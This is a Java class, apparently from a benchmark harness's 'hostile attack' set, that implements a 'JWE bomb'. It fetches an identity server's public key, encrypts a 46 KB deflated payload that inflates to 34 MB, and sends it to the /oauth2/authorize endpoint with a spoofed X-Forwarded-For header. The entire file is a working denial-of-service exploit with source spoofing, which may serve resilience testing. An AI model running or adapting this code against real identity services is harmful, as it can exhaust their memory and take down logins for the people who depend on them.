package fr.montpellier.multipass.bench.attack.hostile;

import fr.montpellier.multipass.bench.clients.Http;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.SecureRandom;
import java.security.spec.MGF1ParameterSpec;
import java.security.spec.RSAPublicKeySpec;
import java.util.Arrays;
import java.util.Base64;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.crypto.Cipher;
import javax.crypto.spec.GCMParameterSpec;
import javax.crypto.spec.OAEPParameterSpec;
import javax.crypto.spec.PSource;
import javax.crypto.spec.SecretKeySpec;

/** Sends a request object of 46 kilobytes, encrypted to the server's published key, that inflates to 34 megabytes. */
public final class JweBomb implements AttackKind {

    private static final int INFLATED = 34_000_000;
    private static final Pattern KEY = Pattern.compile("(\\{[^{}]*\"use\"\\s*:\\s*\"enc\"[^{}]*\\})");
    private static final Base64.Encoder BASE64URL = Base64.getUrlEncoder().withoutPadding();

    private final URI identity;
    private final String jwe;

    public JweBomb(URI identity) {
        this.identity = identity;
        String keys = Http.ok(Http.send(HttpRequest.newBuilder(URI.create(identity + "/oauth2/jwks"))));
        this.jwe = KEY.matcher(keys)
                .results()
                .map(match -> match.group(1))
                .filter(key -> key.contains("\"RSA\""))
                .findFirst()
                .map(JweBomb::encrypted)
                .orElseThrow();
    }

    @Override
    public String name() {
        return "JWE bomb";
    }

    @Override
    public int attack(String source) {
        var form = Map.of(
                "response_type", "code",
                "client_id", "citizen-portal",
                "scope", "openid",
                "request", jwe);
        try {
            return Http.send(Http.form(URI.create(identity + "/oauth2/authorize"), form)
                            .header("X-Forwarded-For", source))
                    .statusCode();
        } catch (UncheckedIOException e) {
            return 0;
        }
    }

    /** Encrypts the bomb as RFC 7516 says, with RSA-OAEP-256 and A256GCM. */
    private static String encrypted(String key) {
        String header = encode("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"zip\":\"DEF\",\"kid\":\""
                .concat(Http.member(key, "kid"))
                .concat("\"}")
                .getBytes(StandardCharsets.US_ASCII));
        var random = new SecureRandom();
        var content = new byte[32];
        var nonce = new byte[12];
        random.nextBytes(content);
        random.nextBytes(nonce);
        try {
            var rsa = Cipher.getInstance("RSA/ECB/OAEPPadding");
            rsa.init(
                    Cipher.ENCRYPT_MODE,
                    KeyFactory.getInstance("RSA")
                            .generatePublic(new RSAPublicKeySpec(number(key, "n"), number(key, "e"))),
                    new OAEPParameterSpec("SHA-256", "MGF1", MGF1ParameterSpec.SHA256, PSource.PSpecified.DEFAULT));
            byte[] wrapped = rsa.doFinal(content);
            var aes = Cipher.getInstance("AES/GCM/NoPadding");
            aes.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(content, "AES"), new GCMParameterSpec(128, nonce));
            aes.updateAAD(header.getBytes(StandardCharsets.US_ASCII));
            byte[] sealed = aes.doFinal(deflated());
            int tag = sealed.length - 16;
            return String.join(
                    ".",
                    header,
                    encode(wrapped),
                    encode(nonce),
                    encode(Arrays.copyOf(sealed, tag)),
                    encode(Arrays.copyOfRange(sealed, tag, sealed.length)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] deflated() {
        var bytes = new ByteArrayOutputStream();
        try (var out = new DeflaterOutputStream(bytes, new Deflater(Deflater.BEST_COMPRESSION, true))) {
            var spaces = new byte[1_000_000];
            Arrays.fill(spaces, (byte) ' ');
            for (int sent = 0; sent < INFLATED; sent += spaces.length) {
                out.write(spaces);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static BigInteger number(String key, String name) {
        return new BigInteger(1, Base64.getUrlDecoder().decode(Http.member(key, name)));
    }

    private static String encode(byte[] bytes) {
        return BASE64URL.encodeToString(bytes);
    }
}
